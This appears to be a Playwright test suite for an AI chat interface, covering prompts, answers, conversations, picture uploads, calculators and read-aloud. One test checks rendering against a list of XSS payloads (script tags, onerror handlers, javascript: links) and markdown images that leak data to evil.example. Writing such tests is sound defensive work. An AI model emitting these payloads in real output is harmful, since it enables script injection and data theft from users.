/** The chat screen, rule by rule, on a phone and on a desk. */
import { limits, notices, problems } from '@maquette/contract';
import type { Page } from '@playwright/test';
import sharp from 'sharp';
import { expect, newPerson, signUpByCall, test } from './journey.fixture.ts';

const chat = '/DashboardChatbot';
const prompt = (page: Page) => page.getByRole('textbox', { name: 'Prompt' });
const log = (page: Page) => page.getByRole('log', { name: 'Messages' });
const answers = (page: Page) => log(page).getByRole('article', { name: 'Assistant' });
const own = (page: Page) => log(page).getByRole('article', { name: 'You' });
/** An answer that has come to its end offers to be read aloud. */
const ended = (page: Page) => answers(page).last().getByRole('button', { name: 'Read aloud' });
const isPhone = (page: Page) => (page.viewportSize()?.width ?? 0) < 768;

async function ask(page: Page, question: string) {
  await prompt(page).fill(question);
  await prompt(page).press('Enter');
  await expect(ended(page)).toBeVisible();
}

const picture = async (name = 'garden.png') => ({
  name,
  mimeType: 'image/png',
  buffer: await sharp({
    create: { width: 320, height: 240, channels: 3, background: { r: 150, g: 190, b: 230 } },
  })
    .composite([
      {
        input: { create: { width: 320, height: 110, channels: 3, background: '#5f7f4a' } },
        left: 0,
        top: 130,
      },
      {
        input: { create: { width: 180, height: 90, channels: 3, background: '#b7653f' } },
        left: 70,
        top: 70,
      },
    ])
    .png()
    .toBuffer(),
});

async function openConversations(page: Page) {
  if (isPhone(page)) await page.getByRole('button', { name: 'Conversations' }).click();
  return page.getByRole('region', { name: 'Conversations' });
}

test('before anything is said: suggestions, the prompt, the disclaimer, the way to the FAQ', async ({
  page,
  member,
}) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  const placeholder = isPhone(page) ? 'Enter a prompt...' : notices.chatPlaceholder;
  await expect(prompt(page)).toHaveAttribute('placeholder', placeholder);
  const suggestions = page.getByRole('list', { name: 'Suggested questions' }).getByRole('button');
  await expect(suggestions).toHaveCount(isPhone(page) ? 2 : 5);
  await expect(page.getByText(notices.assistantDisclaimer)).toBeVisible();
  await expect(page.getByRole('link', { name: 'FAQ' })).toHaveAttribute('href', '/Faq');

  // Nothing is sent by blanks; Shift+Enter breaks the line; the draft outlives the page.
  await prompt(page).fill('  \n ');
  await prompt(page).press('Enter');
  await expect(suggestions.first()).toBeVisible();
  await prompt(page).fill('how wide');
  await prompt(page).press('Shift+Enter');
  await prompt(page).pressSequentially('is a hallway?');
  await page.reload();
  await expect(prompt(page)).toHaveValue('how wide\nis a hallway?');

  await prompt(page).press('Enter');
  await expect(own(page).first()).toHaveText(/^How wide\s+is a hallway\?$/);
  await expect(ended(page)).toBeVisible();
  await expect(answers(page).last()).toContainText('1,000–1,200 mm');
  await expect(suggestions).toHaveCount(0);

  // A used suggestion makes room for one that was not seen.
  await page.goto(chat);
  const pressed = (await suggestions.first().textContent()) ?? '';
  await suggestions.first().click();
  await expect(own(page).first()).toContainText(pressed);
  await expect(ended(page)).toBeVisible();
});

test('an answer: written, stopped, asked again, edited, copied, with its sources', async ({
  page,
  context,
  member,
}) => {
  expect(member.email).toBeTruthy();
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(chat);
  await prompt(page).fill('compare oak and laminate flooring');
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(prompt(page)).toHaveAttribute('placeholder', notices.generating);
  await expect(prompt(page)).toBeDisabled();
  await expect(page.getByRole('button', { name: 'Attach an image' })).toBeDisabled();
  await expect(answers(page).last()).toContainText(/\w{4}/);
  // Twice is once.
  await page.getByRole('button', { name: 'Stop' }).dblclick();
  await expect(prompt(page)).toBeEnabled();
  await page.reload();
  await expect(answers(page).last()).toContainText('You stopped this answer.');
  await expect(own(page)).toHaveCount(1);

  await answers(page).last().getByRole('button', { name: 'Answer again' }).click();
  await expect(ended(page)).toBeVisible();
  await expect(answers(page).last().getByRole('table')).toBeVisible();
  await expect(answers(page).last()).not.toContainText('You stopped');
  await expect(own(page)).toHaveCount(1);

  await answers(page).last().getByRole('button', { name: 'Copy' }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toMatch(/\| --- \|/);

  const sources = page.getByRole('list', { name: 'Sources' }).getByRole('button');
  const title = (await sources.first().textContent()) ?? '';
  await sources.first().click();
  const entry = page.getByRole('dialog', { name: title });
  await expect(entry).toContainText('From the Maquette handbook');
  await page.keyboard.press('Escape');
  await expect(entry).toBeHidden();

  await own(page).first().hover();
  await own(page).first().getByRole('button', { name: 'Edit and send again' }).click();
  await page.getByRole('textbox', { name: 'Edit your message' }).fill('stair width in the UK');
  await page.getByRole('button', { name: 'Send again' }).click();
  await expect(own(page).first()).toHaveText('Stair width in the UK');
  await expect(ended(page)).toBeVisible();
  await expect(answers(page)).toHaveCount(1);
  await page.getByRole('list', { name: 'Ask next' }).getByRole('button').first().click();
  await expect(own(page)).toHaveCount(2);
  await expect(ended(page)).toBeVisible();
});

test('an answer goes on through a reload and in a second tab, every word once', async ({
  page,
  context,
  member,
  server,
  expectTrouble,
}) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  await prompt(page).fill('Compare oak and laminate flooring');
  await prompt(page).press('Enter');
  await expect(page).toHaveURL(/\?c=/);
  await expect(answers(page).last()).toContainText(/\w{4}/);
  const second = await context.newPage();
  await Promise.all([page.reload(), second.goto(page.url())]);
  await expect(ended(second)).toBeVisible();
  await expect(ended(page)).toBeVisible();
  const whole = await answers(page).last().innerText();
  expect(whole).toContain('Laminate');
  expect(await answers(second).last().innerText()).toBe(whole);
  await page.reload();
  await expect(ended(page)).toBeVisible();
  expect(await answers(page).last().innerText()).toBe(whole);

  // What is asked in one tab comes up in the other, also while that one is only looked at.
  await ask(second, 'Thanks');
  await expect(own(page)).toHaveCount(2);
  await expect(answers(page).last()).toContainText('You are welcome.');

  // The line breaks when the question has just arrived: the answer is come back to by itself.
  await second.close();
  expectTrouble(/ERR_INTERNET_DISCONNECTED/);
  await page.route('**/api/assistant', async (route) => {
    const { id } = route.request().postDataJSON();
    const going = route.fetch();
    const kept = `${server.url}/api/conversations/${id}`;
    await expect
      .poll(async () => (await (await context.request.get(kept)).json()).messages.length)
      .toBe(6);
    await route.abort('internetdisconnected');
    await going;
  });
  await prompt(page).fill('Compare quartz and granite worktops');
  await prompt(page).press('Enter');
  await expect(answers(page)).toHaveCount(3);
  await expect(ended(page)).toBeVisible();
  await expect(own(page)).toHaveCount(3);
  await expect(answers(page).last().getByRole('table')).toBeVisible();
});

test('conversations: found, renamed, exported, deleted and brought back; a temporary one is not kept', async ({
  page,
  member,
}) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  await ask(page, 'Goodbye');
  await page.goto(chat);
  await ask(page, 'Thanks');
  let list = await openConversations(page);
  await expect(list.getByRole('listitem')).toHaveCount(2);
  await list.getByRole('searchbox', { name: 'Search conversations' }).fill('good luck');
  await expect(list.getByRole('listitem')).toHaveCount(1);
  await list.getByRole('button', { name: 'More for Goodbye' }).click();
  await list.getByRole('button', { name: 'Rename' }).click();
  await page.getByRole('textbox', { name: 'Title' }).fill('The loft');
  await page.getByRole('button', { name: 'Rename', exact: true }).last().click();
  await list.getByRole('searchbox').fill('loft');
  await expect(list.getByRole('button', { name: 'The loft', exact: true })).toBeVisible();

  const saving = page.waitForEvent('download');
  await list.getByRole('button', { name: 'Export as Markdown' }).click();
  expect((await saving).suggestedFilename()).toBe('the-loft.md');
  await list.getByRole('button', { name: 'Delete' }).click();
  await expect(list.getByText('Nothing matches.')).toBeVisible();
  await page.getByRole('button', { name: 'Undo' }).click();
  await list.getByRole('button', { name: 'The loft', exact: true }).click();
  await expect(own(page).first()).toHaveText('Goodbye');

  list = await openConversations(page);
  await list.getByRole('button', { name: 'Temporary' }).click();
  await expect(page.getByText('Temporary chat: nothing of it is kept.')).toBeVisible();
  await ask(page, 'Thanks');
  list = await openConversations(page);
  await list.getByRole('searchbox').fill('');
  await expect(list.getByRole('listitem')).toHaveCount(2);
});

test('a picture: picked, dropped, pasted, described, restyled in the thread and asked about again', async ({
  page,
  member,
}) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  const file = await picture();
  const base64 = file.buffer.toString('base64');
  const attached = page.getByText('Attached', { exact: true });
  await page.locator('input[type=file]').setInputFiles(file);
  await expect(attached).toBeVisible();
  await page.getByRole('button', { name: 'Remove the picture' }).click();
  for (const type of ['drop', 'paste'] as const) {
    await prompt(page).evaluate(
      (field, [how, data]) => {
        const bytes = Uint8Array.from(atob(data), (sign) => sign.charCodeAt(0));
        const carried = new DataTransfer();
        carried.items.add(new File([bytes], 'garden.png', { type: 'image/png' }));
        const settings = { bubbles: true, cancelable: true };
        field.dispatchEvent(
          how === 'drop'
            ? new DragEvent('drop', { ...settings, dataTransfer: carried })
            : new ClipboardEvent('paste', { ...settings, clipboardData: carried }),
        );
      },
      [type, base64] as const,
    );
    await expect(attached).toBeVisible();
    await page.getByRole('button', { name: 'Remove the picture' }).click();
  }

  await page.locator('input[type=file]').setInputFiles(file);
  await expect(attached).toBeVisible();
  await ask(page, 'restyle this as coastal');
  await expect(own(page).first().getByRole('img', { name: 'garden.png' })).toBeVisible();
  const card = page.getByRole('region', { name: 'Restyle your photo as Coastal' });
  await expect(card.getByLabel('Style')).toHaveValue('Coastal');
  // Nothing is spent by being asked.
  await expect(card.getByText('25 of 25 pictures left today')).toBeVisible();
  await card.getByRole('button', { name: 'Make it' }).click();
  const work = page.getByRole('region', { name: /^Render: Coastal/ });
  await expect(work).toBeVisible();
  await expect(work.getByRole('link', { name: 'Open the result' })).toBeVisible({
    timeout: 60_000,
  });
  await page.reload();
  await expect(work.getByRole('img', { name: /Coastal/ })).toBeVisible();
  await expect(card).toBeHidden();

  await work.getByRole('link', { name: 'Open the result' }).click();
  await page.getByRole('link', { name: 'Ask about this' }).click();
  await expect(attached).toBeVisible();
  await ask(page, 'what colours are in this picture?');
  await expect(answers(page).last()).toContainText('main colours');
});

test('calculators: by name, from the menu, in feet, by keyboard alone', async ({
  page,
  member,
}) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  await ask(page, 'paint calculator');
  const paint = page.getByRole('form', { name: 'Paint calculator' });
  // The thread follows the answer while it grows; the form stands still once it has ended.
  await expect(answers(page).last().getByRole('button', { name: 'Read aloud' })).toBeVisible();
  await paint.getByRole('button', { name: 'Metric' }).click();
  await paint.getByLabel('Room length, m').fill('500');
  await paint.getByRole('button', { name: 'Calculate' }).click();
  await expect(paint.getByText('From 0.5 to 100 m')).toBeVisible();
  await paint.getByLabel('Room length, m').fill('5');
  await paint.getByRole('button', { name: 'Imperial' }).click();
  await expect(paint.getByLabel('Room length, ft')).toHaveValue('16.404');
  await paint.getByRole('button', { name: 'Metric' }).click();
  await paint.getByLabel('Room length, m').press('Enter');
  await expect(own(page).last()).toContainText('Paint: room length 5 m');
  await expect(answers(page).last()).toContainText('of paint');
  await expect(answers(page).last().getByRole('listitem').first()).toContainText(
    'Walls: 2 × (5 + 3)',
  );
  await expect(ended(page)).toBeVisible();
  await answers(page).last().getByRole('button', { name: 'Change the values' }).click();
  await expect(paint.getByLabel('Room length, m')).toHaveValue('5');

  await page.getByRole('button', { name: 'Calculators' }).focus();
  await page.keyboard.press('Enter');
  const dialog = page.getByRole('dialog', { name: 'Calculators' });
  await dialog.getByRole('button', { name: /^Stairs/ }).focus();
  await page.keyboard.press('Enter');
  const stairs = page.getByRole('form', { name: 'Stairs calculator' });
  await stairs.getByLabel('Floor to floor height, m').fill('2.8');
  await page.keyboard.press('Enter');
  await expect(answers(page).last()).toContainText('16 risers');
  await expect(ended(page)).toBeVisible();
});

test('read aloud: fetched once, played, at another speed; a failure says so', async ({
  page,
  member,
  expectTrouble,
}) => {
  expect(member.email).toBeTruthy();
  expectTrouble(/status of 500/);
  await page.goto(chat);
  await ask(page, 'Thanks');
  let fetched = 0;
  let fails = true;
  await page.route('**/api/tts', (route) => {
    fetched += 1;
    return fails
      ? route.fulfill({ status: 500, json: { error: 'The voice is hoarse.' } })
      : route.continue();
  });
  const speaker = ended(page);
  await speaker.click();
  await expect(answers(page).last().getByRole('alert')).toHaveText('The voice is hoarse.');
  fails = false;
  await speaker.click();
  const player = answers(page).last().getByLabel('Answer read aloud');
  await expect(player).toBeVisible();
  await expect
    .poll(() => player.evaluate((audio: HTMLAudioElement) => audio.duration))
    .toBeGreaterThan(1);
  await answers(page).last().getByLabel('Speed').selectOption('1.5');
  expect(await player.evaluate((audio: HTMLAudioElement) => audio.playbackRate)).toBe(1.5);
  await speaker.click();
  expect(fetched).toBe(2);
});

test('what goes wrong is said, and trying again asks once', async ({
  page,
  member,
  expectTrouble,
}) => {
  expect(member.email).toBeTruthy();
  expectTrouble(/status of 500/);
  expectTrouble(/status of 4\d\d/);
  await page.goto(chat);
  let fails = true;
  await page.route('**/api/assistant', (route) =>
    fails
      ? route.fulfill({ status: 500, json: { code: 'RESPONSE_FAILED', message: 'x' } })
      : route.continue(),
  );
  await prompt(page).fill('Thanks');
  await prompt(page).press('Enter');
  const alert = log(page).getByRole('alert');
  await expect(alert).toContainText(problems.RESPONSE_FAILED.message);
  fails = false;
  await alert.getByRole('button', { name: 'Try again' }).click();
  await expect(ended(page)).toBeVisible();
  await expect(own(page)).toHaveCount(1);
  await page.reload();
  await expect(ended(page)).toBeVisible();
  await expect(own(page)).toHaveCount(1);

  // A picture that is none.
  const broken = { name: 'broken.png', mimeType: 'image/png', buffer: Buffer.from('no picture') };
  await page.locator('input[type=file]').setInputFiles(broken);
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(page.getByText(/^Error analyzing image: /)).toBeVisible();
  await page.getByRole('button', { name: 'Remove the picture' }).click();

  // As long as a prompt may be, and not a sign more.
  await prompt(page).fill('How wide is a hallway? '.padEnd(limits.promptCharacters + 100, 'x'));
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(ended(page)).toBeVisible();
  const sent = await own(page).last().locator('p').innerText();
  expect(sent.trim().length).toBeLessThanOrEqual(limits.promptCharacters);
  await expect(answers(page)).toHaveCount(2);
});

const hostile = [
  '<img src=x onerror="document.title=\'taken\'">',
  '![a](https://evil.example/?d=secret) ![b](//evil.example/b.png)',
  '[click](javascript:document.title="taken") [out](https://records.example/plan)',
  '<script>document.title="taken"</script>',
  '| A | B |\n| - | - |\n| 1 | 2 |',
].join('\n\n');

test('a hundred messages open at their end; hostile ones do nothing', async ({ page, member }) => {
  expect(member.email).toBeTruthy();
  const id = crypto.randomUUID();
  const messages = Array.from({ length: 100 }, (_, place) => ({
    id: `message-${place}`,
    role: place % 2 === 0 ? 'user' : 'assistant',
    parts: [
      {
        type: 'text',
        text: place === 99 ? hostile : `Line ${place}. ${'Words of it. '.repeat(20)}`,
      },
    ],
    metadata: place === 97 ? { ended: 'interrupted' } : {},
  }));
  await page.route(`**/api/conversations/${id}`, (route) =>
    route.fulfill({
      json: { id, title: 'Long', updatedAt: new Date().toISOString(), answering: false, messages },
    }),
  );
  await page.goto(`${chat}?c=${id}`);
  await expect(answers(page)).toHaveCount(50);
  await expect(answers(page).last().getByRole('table')).toBeInViewport();
  await expect(answers(page).nth(48)).toContainText('This answer was interrupted.');
  await expect(answers(page).last().getByRole('img')).toHaveCount(0);
  const out = answers(page).last().getByRole('link', { name: 'out (records.example)' });
  await expect(out).toHaveAttribute('rel', 'noopener noreferrer');
  expect(await page.title()).not.toContain('taken');

  await page.mouse.move(200, 300);
  await page.mouse.wheel(0, -3_000);
  await page.getByRole('button', { name: 'Jump to latest' }).click();
  await expect(answers(page).last().getByRole('table')).toBeInViewport();
  await expect(page.getByRole('button', { name: 'Jump to latest' })).toBeHidden();
});

test('the sketch chat is open to visitors, keeps nothing and sees pictures', async ({ page }) => {
  await page.goto('/DashboardSketch');
  await page.locator('input[type=file]').setInputFiles(await picture());
  await expect(page.getByText('Attached', { exact: true })).toBeVisible();
  await ask(page, 'Restyle this as Rustic');
  const card = page.getByRole('region', { name: 'Restyle your photo as Rustic' });
  await expect(card.getByRole('button', { name: 'Sign in to make it' })).toBeVisible();
  await ask(page, 'How high is a handrail in the UK?');
  await ask(page, 'and in Australia?');
  await expect(answers(page).last()).toContainText('Australia');
  await expect(page.getByRole('button', { name: 'Conversations' })).toHaveCount(0);
  await page.reload();
  await expect(own(page)).toHaveCount(0);
});

test('a picture looked at by itself: by file, with a question, and what is missing is said', async ({
  page,
  context,
  server,
}) => {
  await signUpByCall(context, server.url, newPerson());
  await page.goto('/ImageAnalyzer');
  await page.getByRole('button', { name: 'Analyze' }).click();
  const notice = page.getByRole('alertdialog', { name: problems.IMAGE_NEEDED.message });
  await notice.getByRole('button', { name: 'OK' }).click();
  await page.locator('input[type=file]').setInputFiles(await picture());
  await page.getByRole('button', { name: 'Analyze' }).click();
  const report = page.getByRole('region', { name: 'Analysis' });
  await expect(report.getByRole('heading', { name: 'Colours' })).toBeVisible();
  await report.getByText('JSON', { exact: true }).click();
  await expect(report.getByText('"widthPx": 320')).toBeVisible();

  await page.goto('/ImageForm');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await notice.getByRole('button', { name: 'OK' }).click();
  await page.getByRole('tab', { name: 'By file' }).click();
  await page.locator('input[type=file]').setInputFiles(await picture());
  await page.getByLabel('Prompt').fill('Is it bright enough?');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(report.getByText(/bright/).first()).toBeVisible();
});
